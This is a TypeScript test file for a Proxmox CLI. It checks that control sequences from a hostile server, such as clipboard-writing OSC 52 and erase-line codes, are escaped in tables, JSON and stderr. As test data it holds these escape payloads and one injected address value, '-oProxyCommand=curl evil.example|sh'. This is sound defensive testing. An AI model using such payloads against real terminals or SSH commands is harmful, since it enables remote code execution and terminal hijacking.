/**
 * A hostile server or guest agent cannot write terminal control sequences through `proxmox-iac`: guest and
 * node names, tags, the agent's host name, OS and interfaces, task log lines and the server's error text come
 * out with every control character escaped (`\u001b`), in tables, sentences, stderr and JSON, while ordinary
 * Unicode names print as they are. Each test runs the CLI in-process against the simulator, whose state is
 * changed to what such a server would answer.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { main } from '../../../src/cli/main';
import type { RunningSimulator } from '../../../src/sim/index';
import { capturedIo, clientFor, sim, simEnv, VM, type CapturedIO } from './helpers';

/**
 * OSC 52 (writes the clipboard), erase line, carriage return, a C1 CSI (U+009B), DEL, and a line break and a tab:
 * main() passes line breaks and tabs on, so only the escaping where a command prints the name shows them.
 */
const EVIL = 'web\u001b]52;c;ZXZpbA==\u0007\u001b[2K\rFAKE\u009b31m\u007f\n\tNEXT';
/** How EVIL is shown: each control character as its JavaScript escape. */
const SHOWN = 'web\\u001b]52;c;ZXZpbA==\\u0007\\u001b[2K\\rFAKE\\u009b31m\\u007f\\n\\tNEXT';
const NICE = 'wébserver-東京';

let s: RunningSimulator;
let dir: string;

before(async () => {
  s = await sim();
  dir = mkdtempSync(join(tmpdir(), 'pve-cli-escapes-'));
  writeFileSync(join(dir, 'admin.token'), `${s.tokens.admin.secret}\n`);
});
after(async () => {
  await s.stop();
  rmSync(dir, { recursive: true, force: true });
});

const io = (): CapturedIO => capturedIo(dir, simEnv(s));

/** No control character but the line breaks between lines. */
function assertPrintable(text: string, where: string): void {
  // eslint-disable-next-line no-control-regex
  const bad = /[\x00-\x09\x0b-\x1f\x7f-\x9f]/.exec(text);
  assert.equal(bad, null, `${where} holds U+${bad?.[0].charCodeAt(0).toString(16).padStart(4, '0')}: ${JSON.stringify(text)}`);
}

/** Sets guest fields for one test and puts them back after it. */
async function withGuest<T>(vmid: number, fields: Record<string, unknown>, body: () => Promise<T>): Promise<T> {
  const g = s.state.guests.get(vmid) as unknown as Record<string, unknown>;
  const saved = Object.fromEntries(Object.keys(fields).map((k) => [k, g[k]]));
  Object.assign(g, fields);
  try {
    return await body();
  } finally {
    Object.assign(g, saved);
  }
}

test('resources --format table: a hostile guest name, tags and node name are escaped; a non-ASCII name is kept', async () => {
  const prom = s.state.nodes.get('prom')!;
  s.state.nodes.set(EVIL, { ...prom, node: EVIL });
  try {
    await withGuest(104, { name: EVIL, tags: ['prod\u001b[2K'] }, () =>
      withGuest(109, { name: NICE }, async () => {
        const x = io();
        assert.equal(await main(['resources', '--token-file', 'admin.token', '--format', 'table'], x), 0, x.stderr());
        assertPrintable(x.stdout(), 'stdout');
        const row104 = x.stdout().split('\n').find((l) => l.startsWith('104 '));
        assert.ok(row104?.includes(SHOWN) && row104.includes('prod\\u001b[2K'), row104);
        assert.ok(x.stdout().split('\n').some((l) => l.startsWith(SHOWN)), 'the node row shows the escaped node name');
        assert.match(x.stdout(), new RegExp(`^109 +${NICE} +qemu +prom `, 'm'));
      }),
    );
  } finally {
    s.state.nodes.delete(EVIL);
  }
});

test('resources --format json stays JSON: the same names after parsing, no control byte in the text (C1 and DEL escaped too)', async () => {
  await withGuest(104, { name: EVIL }, () =>
    withGuest(109, { name: NICE }, async () => {
      const x = io();
      assert.equal(await main(['resources', '--token-file', 'admin.token'], x), 0, x.stderr());
      assertPrintable(x.stdout(), 'stdout');
      const snap = JSON.parse(x.stdout()) as { guests: { vmid: number; name: string }[] };
      assert.equal(snap.guests.find((g) => g.vmid === 104)?.name, EVIL);
      assert.equal(snap.guests.find((g) => g.vmid === 109)?.name, NICE);
      assert.ok(x.stdout().includes(`"${NICE}"`), 'non-ASCII is not escaped');
    }),
  );
});

test('agent --format table: the agent\'s host name, OS and interface name are escaped; a non-IP "address" is not shown', async () => {
  const interfaces = [
    {
      name: `eth0${EVIL}`,
      'hardware-address': 'bc:24:11:00:00:01',
      'ip-addresses': [
        { 'ip-address-type': 'ipv4', 'ip-address': '-oProxyCommand=curl evil.example|sh', prefix: 24 },
        { 'ip-address-type': 'ipv4', 'ip-address': '10.0.1.29', prefix: 24 },
        { 'ip-address-type': 'ipv6', 'ip-address': 'fe80::be24:11ff:fe00:68%eth0', prefix: 64 },
      ],
    },
  ];
  const osinfo = { id: 'nixos', name: 'NixOS', 'pretty-name': `NixOS${EVIL}` };
  await withGuest(104, { hostname: `host${EVIL}`, osinfo, agentQuirks: { interfaces } }, async () => {
    const x = io();
    assert.equal(await main(['agent', '104', '--token-file', 'admin.token', '--format', 'table'], x), 0, x.stderr());
    assertPrintable(x.stdout(), 'stdout');
    assertPrintable(x.stderr(), 'stderr');
    assert.ok(x.stdout().startsWith(`VM 104 on prom: host${SHOWN} — NixOS${SHOWN}\n`), x.stdout());
    assert.ok(x.stdout().includes(`eth0${SHOWN}  bc:24:11:00:00:01  10.0.1.29/24 fe80::be24:11ff:fe00:68%eth0/64`), x.stdout());
    assert.ok(!x.stdout().includes('ProxyCommand'), 'stdout names no address that is not one');
    assert.match(x.stderr(), /eth0web\\u001b.* reported 1 address that is not an IP address; not shown \(see --format json\)/);
  });
});

test('task --format table: a hostile log line and exit status are escaped, one line each', async () => {
  const upid = await clientFor(s).power(VM(109), 'reboot');
  s.state.finishTask(upid);
  const task = s.state.tasks.get(upid)!;
  task.log.push(EVIL, `line two\n${NICE}`);
  task.exitstatus = `WARNINGS: 1${EVIL}`;
  const x = io();
  assert.equal(await main(['task', upid, '--token-file', 'admin.token', '--format', 'table'], x), 0, x.stderr());
  assertPrintable(x.stdout(), 'stdout');
  const lines = x.stdout().split('\n');
  assert.ok(lines.includes(SHOWN), x.stdout());
  assert.ok(lines.includes(`line two\\n${NICE}`), x.stdout());
  assert.ok(lines[1].endsWith(`WARNINGS: 1${SHOWN}`), lines[1]);
});

test('a hostile server error message is escaped on stderr', async () => {
  s.injectFault('/cluster/resources', { status: 403, message: `Permission check failed ${EVIL}` });
  try {
    const x = io();
    assert.equal(await main(['resources', '--token-file', 'admin.token', '--format', 'table'], x), 1);
    assertPrintable(x.stderr(), 'stderr');
    assert.ok(x.stderr().includes(SHOWN), x.stderr());
    assert.equal(x.stdout(), '');
  } finally {
    s.clearFaults();
  }
});
